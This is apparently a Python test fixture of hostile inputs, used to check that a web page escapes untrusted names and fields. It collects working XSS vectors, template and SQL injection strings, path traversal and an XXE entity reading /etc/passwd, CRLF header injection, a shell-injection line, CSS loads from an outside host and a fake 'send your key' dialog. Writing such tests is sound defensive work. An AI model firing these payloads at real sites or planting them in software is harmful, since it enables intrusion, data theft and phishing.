"""What a hostile source might write where a name, a place or a reason is expected.

Each would act somewhere if a page took it for markup, a script, a style, an address or a template.
`MARK` is what the scripts among them call; a page in which it was called has run one.
"""

MARK = "khronikaProbe"
_CALL = f"window.{MARK}=1;alert(1)"

TAGS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\n>{_CALL}</script\t>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</option></select><img src=x onerror={_CALL}>",
    f"--><script>{_CALL}</script>",
    f"<!--<img src='--><img src=x onerror={_CALL}>'>",
    f"]]><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img src=x:x onerror&#61;{_CALL}>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//outside.example/>",
    "<link rel=stylesheet href=//outside.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//outside.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<img src=//outside.example/x.png>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<dialog open>Session ended. Send your key to desk@outside.example</dialog>",
)
ATTRIBUTES = (
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}" x="',
    f"' autofocus onfocus={_CALL} x='",
    f"` onmouseover=`{_CALL}",
    f'"><script>{_CALL}</script>',
    f"'><img src=x onerror={_CALL}>",
    '" style="position:fixed;inset:0;background:red',
    '" accesskey="x" onclick="alert(1)',
    '" formaction="//outside.example/" x="',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//outside.example/x",
    "\\\\outside.example\\x",
    "/\\outside.example/x",
    "https://outside.example/?x=<script>",
    "http://127.0.0.1:1/x",
)
PICTURES = (
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d {0} {name} {0.__class__}",
    "{{constructor.constructor('alert(1)')()}}",
    "$(alert 1) `alert 1` ; rm -rf nowhere",
    "' OR '1'='1' -- ; DROP TABLE report; --",
    '" OR kind:arrest NOT ( * "^',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd%00.txt",
)
STYLES = (
    "<style>*{background:url(//outside.example/x)}</style>",
    "<style>@import '//outside.example/x.css';</style>",
    "expression(alert(1)); behavior:url(//outside.example/x.htc)",
    "}</style><script>alert(1)</script>",
    "url('//outside.example/x')",
)
ENCODINGS = (
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0000ipt>alert(1)</script>",
    "a\u0000b\u0001c\u0008d\u007fe\u0085f",
    "<\u200bscript>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "line one\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "line\u2028separated\u2029paragraph",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200fright",
    "\u202e\u202e\u202e" + "reversed" * 3,
    "Z̸̢̛͇͖̈́a̵̡͈̾̕l̶̰̈́g̸̣͝o̵̳͝ " + "\u0301" * 40,
    "\U000e0041\U000e0042 tags \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\ufffe\uffff\ufdd0 noncharacters",
)
LONG = (
    "long" * 1500,
    "word " * 1200,
    "<b>" * 500 + "deep" + "</b>" * 500,
    "((((" * 200,
)

PAYLOADS = (
    *(*TAGS, *ATTRIBUTES, *ADDRESSES, *PICTURES),
    *(*TEMPLATES, *STYLES, *ENCODINGS, *LONG),
)
